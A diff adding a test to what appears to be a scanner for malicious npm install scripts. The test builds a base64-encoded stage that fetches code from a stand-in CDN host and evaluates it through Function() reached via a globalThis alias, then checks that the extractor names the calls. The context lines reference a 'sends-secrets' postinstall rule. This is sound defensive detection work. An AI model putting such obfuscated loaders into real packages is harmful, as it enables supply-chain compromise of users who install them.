@@ -1884,3 +1884,15 @@ def test_a_script_of_a_folder_install_code_hands_a_program_is_run_at_install():
     files["scripts/register.js"] = register.replace("path.join(__dirname, '..', 'helm-plugin')", "path.join(__dirname, 'check.js')")
     swept = next(f for f in run(files, {"postinstall": "node scripts/register.js"}) if f.rule == "install-script/sends-secrets")
     assert swept.severity is Severity.HIGH
+
+
+def test_only_a_choice_that_gives_the_global_object_names_it():
+    # `var G = typeof globalThis === 'object' && globalThis || …`: G.Function is Function; a choice that tests for the
+    # window and gives something read from it (`window.document`) is no global object, and its members keep their names.
+    stage = base64.b64encode(b"require('https').get('https://cdn.example/x.js')").decode()
+    code = ("var root = typeof window !== 'undefined' ? window.document : null;\n"
+            "var G = typeof globalThis === 'object' && globalThis || typeof window !== 'undefined' && window || this;\n"
+            f"root.Function('a', Buffer.from('{stage}', 'base64').toString());\n"
+            f"G.Function('b', Buffer.from('{stage}', 'base64').toString());\n")
+    names = {f.value for f in extract("index.js", code.encode()).facts if f.kind == "call"}
+    assert "Function" in names and "root.Function" in names
